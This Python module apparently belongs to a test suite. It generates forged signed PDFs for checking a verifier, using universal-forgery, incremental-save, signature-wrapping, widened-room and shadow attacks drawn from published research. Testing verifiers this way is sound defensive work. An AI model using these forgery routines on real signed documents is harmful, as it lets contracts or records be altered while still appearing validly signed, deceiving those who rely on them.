"""Attacks on signed PDFs: universal forgery, incremental saving, signature wrapping, annotations, second catalogues.

After Mladenov et al., "1 Trillion Dollar Refund" (2019), "Shadow Attacks" (2021), "Breaking the Specification:
PDF Certification" (2021). The shadow attacks prepare the file before signing (`shadow_prepared`); the rest comes
after it.
"""

from __future__ import annotations

import io
import re
from collections.abc import Callable, Iterator
from functools import partial

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name, pdf_string
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

from edocx.testing.attacks import Attack

_RANGE = re.compile(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]")
_CONTENTS = re.compile(rb"/Contents\s*<([0-9A-Fa-f]+)>")
_NEW_PAGE = b"BT /F1 24 Tf 50 700 Td (FORGED) Tj ET"


def forgeries(data: bytes) -> Iterator[Attack]:
    """Yield forged copies of a signed PDF."""
    yield from _universal(data)
    yield from _wrapping(data)
    for name, change in _UPDATES.items():
        yield Attack(f"incremental-{name}", _updated(data, change))
    yield Attack("incremental-bare-object", data + _bare_object(data))
    yield Attack("incremental-bare-trailer", data + _bare_object(data) + b"trailer\n<</Root 1 0 R>>\n%%EOF\n")
    yield Attack("incremental-second-startxref", data + b"startxref\n0\n%%EOF\n")
    yield Attack("appended-document", data + data[: len(data) // 2])
    yield Attack("appended-bytes", data + b"\nFORGED CONTENT AFTER THE END\n")
    yield Attack("changed-in-place", _changed_in_place(data))


def appendices(data: bytes) -> Iterator[Attack]:
    """Yield copies of a signed PDF with bytes after its end mark, also where no signature ends there."""
    for name, more in {
        "text": b"FORGED CONTENT AFTER THE END\n",
        "zip-end": b"PK\5\6" + bytes(18),
        "trailer": b"trailer\n<</Root 1 0 R>>\n",
        "object": _bare_object(data),
        "second-end": b"startxref\n0\n%%EOF\n",
    }.items():
        yield Attack(f"appendix-{name}", data + more)


def shadow_prepared(data: bytes) -> bytes:
    """Return an unsigned PDF whose first page shows an object that does not exist yet: nothing is to be seen of it."""

    def show_ahead(writer: IncrementalPdfFileWriter) -> None:
        page, _ = writer.find_page_for_modification(0)
        held = page.get_object()
        contents = held.raw_get("/Contents")
        listed = list(contents) if isinstance(contents, generic.ArrayObject) else [contents]
        ahead = generic.IndirectObject(int(writer.prev.trailer["/Size"]) + _AHEAD, 0, writer)
        held[pdf_name("/Contents")] = generic.ArrayObject([*listed, ahead])
        writer.mark_update(page)

    return _updated(data, show_ahead)


def shadow_revealed(data: bytes) -> Attack:
    """Return a signed PDF of `shadow_prepared` with the object in being: as the look of its first text field."""

    def reveal(writer: IncrementalPdfFileWriter) -> None:
        page, _ = writer.find_page_for_modification(0)
        ahead = page.get_object()["/Contents"].raw_get(-1)
        fields = [one.get_object() for one in writer.root["/AcroForm"]["/Fields"]]
        field = next(one for one in fields if one["/FT"] == "/Tx")
        writer._lastobj_id = ahead.idnum - 1  # noqa: SLF001 - the number is the attack
        box = generic.ArrayObject(generic.NumberObject(n) for n in (0, 0, 600, 800))
        names = {pdf_name("/Type"): pdf_name("/XObject"), pdf_name("/Subtype"): pdf_name("/Form")}
        shown = generic.StreamObject({**names, pdf_name("/BBox"): box}, stream_data=_NEW_PAGE)
        field[pdf_name("/V")] = pdf_string("1")
        field[pdf_name("/AP")] = generic.DictionaryObject({pdf_name("/N"): writer.add_object(shown)})
        writer.update_container(field)

    return Attack("shadow-named-ahead", _updated(data, reveal))


_AHEAD = 60
"""How far beyond the last object the prepared one is: signing takes some of the numbers in between."""


def _universal(data: bytes) -> Iterator[Attack]:
    """Take away or spoil what the check needs, so that a careless viewer skips it."""
    forged = _changed_in_place(data)
    for name, value in {
        "missing": b"",
        "null": b"/ByteRange null",
        "empty": b"/ByteRange []",
        "zeros": b"/ByteRange [0 0 0 0]",
        "negative": b"/ByteRange [0 -1 -1 0]",
        "short": b"/ByteRange [0 10 10 10]",
        "beyond": b"/ByteRange [0 999999999 999999999 999999999]",
        "two": b"/ByteRange [0 10]",
    }.items():
        yield Attack(f"universal-range-{name}", _RANGE.sub(partial(_in_place, value), forged))
    for name, digits in {"zeros": b"00", "short": b"30", "garbage": b"DEADBEEF"}.items():
        yield Attack(f"universal-contents-{name}", _CONTENTS.sub(partial(_repeated, digits), forged))
    yield Attack("universal-contents-null", _CONTENTS.sub(partial(_in_place, b"/Contents null"), forged))
    yield Attack("universal-subfilter", forged.replace(b"/ETSI.CAdES.detached", b"/ETSI.XXXXX.detached"))


def _in_place(value: bytes, match: re.Match[bytes]) -> bytes:
    return value.ljust(len(match[0]))[: len(match[0])]


def _repeated(digits: bytes, match: re.Match[bytes]) -> bytes:
    return b"/Contents<" + (digits * len(match[1]))[: len(match[1])] + b">"


def _wrapping(data: bytes) -> Iterator[Attack]:
    """Move the second signed part away and put something else where it was."""
    found = list(_RANGE.finditer(data))
    if not found:
        return
    match = found[-1]
    start, length, second, rest = (int(n) for n in match.groups())
    inserted = b"\n9999 0 obj\n<</Type/Catalog/Forged true>>\nendobj\n"
    moved = second + len(inserted)
    new_range = b"/ByteRange [%d %d %d %d]" % (start, length, moved, rest)
    if len(new_range) <= len(match[0]):
        head = data[: match.start()] + new_range.ljust(len(match[0])) + data[match.end() : second]
        yield Attack("wrapping-gap-widened", head + inserted + data[second:])
    yield Attack("wrapping-gap-filled", data[: second - 1] + inserted + data[second - 1 :])
    # The same bytes are digested, but the gap takes in what stood before the signature.
    narrower = b"/ByteRange [%d %d %d %d]" % (start, max(length - 40, 1), second, rest)
    if len(narrower) <= len(match[0]):
        yield Attack("wrapping-gap-early", data[: match.start()] + narrower.ljust(len(match[0])) + data[match.end() :])


def widened_rooms(data: bytes) -> Iterator[Attack]:
    """Yield copies whose last signature's room holds a forged page behind the signature: each signed byte is there.

    The file parses no more, and viewers make its table anew from the objects that they find. The byte range that fits
    stands in the room too, so that whoever looks for it in the file's text finds it first, last, or too often.
    """
    *_, last = _RANGE.finditer(data)
    _, length, second, rest = (int(n) for n in last.groups())
    held = data[length : second - 1]
    for name, room, copies in (
        ("short", held + b">", 1),
        ("often", held + b">", _OFTEN),
        ("wide", held.ljust(_WIDE - 1) + b">", 1),
        ("wide-often", held.ljust(_WIDE - 1) + b">", _OFTEN),
        ("closed", held + b">", 1),
    ):
        head = room + _FORGED_PAGE
        tail = b"<>" if name == "closed" else b""
        line = b"/ByteRange [0 %010d %010d %010d]\n"
        moved = length + len(head) + copies * len(line % (0, 0, 0)) + len(tail)
        ranges = copies * (line % (length, moved, rest))
        yield Attack(f"room-{name}", data[:length] + head + ranges + tail + data[second:])


_OFTEN, _WIDE = 60, 4 * 1024 * 1024
"""More byte ranges, and a longer room, than a verifier may care to look at."""

_FORGED_PAGE = (
    b"\n>>\nendobj\n9000 0 obj\n<</Type/Page/Parent 1 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F1<</Type/Font"
    b"/Subtype/Type1/BaseFont/Helvetica>>>>>>/Contents 9001 0 R>>\nendobj\n9001 0 obj\n<</Length %d>>\nstream\n%s\n"
    b"endstream\nendobj\n9002 0 obj\n<<" % (len(_NEW_PAGE), _NEW_PAGE)
)


def _changed_in_place(data: bytes) -> bytes:
    place = data.find(b"/MediaBox")
    return data if place < 0 else data[:place] + b"/mediaBox" + data[place + 9 :]


def _bare_object(data: bytes) -> bytes:
    numbers = [int(n) for n in re.findall(rb"(\d+) 0 obj\s*<<[^>]*/Type\s*/Page\b", data)]
    number = numbers[0] if numbers else 1
    return b"%d 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]>>\nendobj\n" % number


def _updated(data: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    stream = io.BytesIO(data)
    writer = IncrementalPdfFileWriter(stream, strict=False)
    change(writer)
    writer.write_in_place()
    return stream.getvalue()


def _overlay(writer: IncrementalPdfFileWriter) -> None:
    writer.add_stream_to_page(0, writer.add_object(generic.StreamObject(stream_data=_NEW_PAGE)))


def _replace_page(writer: IncrementalPdfFileWriter) -> None:
    page, _ = writer.find_page_for_modification(0)
    content = generic.StreamObject(stream_data=_NEW_PAGE)
    page.get_object()[pdf_name("/Contents")] = writer.add_object(content)
    writer.mark_update(page)


def _annotate(writer: IncrementalPdfFileWriter) -> None:
    page, _ = writer.find_page_for_modification(0)
    note = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/FreeText"),
            pdf_name("/Contents"): pdf_string("FORGED"),
            pdf_name("/DA"): pdf_string("/Helv 24 Tf 1 0 0 rg"),
            pdf_name("/Rect"): generic.ArrayObject(generic.NumberObject(n) for n in (50, 600, 500, 800)),
        }
    )
    writer.register_annotation(page, writer.add_object(note))


def _crop(writer: IncrementalPdfFileWriter) -> None:
    page, _ = writer.find_page_for_modification(0)
    page.get_object()[pdf_name("/CropBox")] = generic.ArrayObject(generic.NumberObject(n) for n in (0, 0, 10, 10))
    writer.mark_update(page)


def _second_catalogue(writer: IncrementalPdfFileWriter) -> None:
    root = generic.DictionaryObject({name: value for name, value in writer.root.items() if name != "/AcroForm"})
    root[pdf_name("/OpenAction")] = writer.add_object(
        generic.DictionaryObject({pdf_name("/S"): pdf_name("/JavaScript"), pdf_name("/JS"): pdf_string("1")})
    )
    for name, value in root.items():
        writer.root[name] = value
    writer.update_root()


def _layers(writer: IncrementalPdfFileWriter) -> None:
    layer = generic.DictionaryObject({pdf_name("/Type"): pdf_name("/OCG"), pdf_name("/Name"): pdf_string("x")})
    group = writer.add_object(layer)
    off = generic.DictionaryObject({pdf_name("/OFF"): generic.ArrayObject([group])})
    writer.root[pdf_name("/OCProperties")] = generic.DictionaryObject(
        {pdf_name("/OCGs"): generic.ArrayObject([group]), pdf_name("/D"): off}
    )
    writer.update_root()


def _fonts(writer: IncrementalPdfFileWriter) -> None:
    page, _ = writer.find_page_for_modification(0)
    fonts = generic.DictionaryObject(
        {
            pdf_name("/F1"): generic.DictionaryObject(
                {
                    pdf_name("/Type"): pdf_name("/Font"),
                    pdf_name("/Subtype"): pdf_name("/Type1"),
                    pdf_name("/BaseFont"): pdf_name("/Symbol"),
                }
            )
        }
    )
    page.get_object()[pdf_name("/Resources")] = generic.DictionaryObject({pdf_name("/Font"): fonts})
    writer.mark_update(page)


_UPDATES: dict[str, Callable[[IncrementalPdfFileWriter], None]] = {
    "overlay": _overlay,
    "replace-page": _replace_page,
    "annotation": _annotate,
    "crop": _crop,
    "action": _second_catalogue,
    "layers": _layers,
    "fonts": _fonts,
}
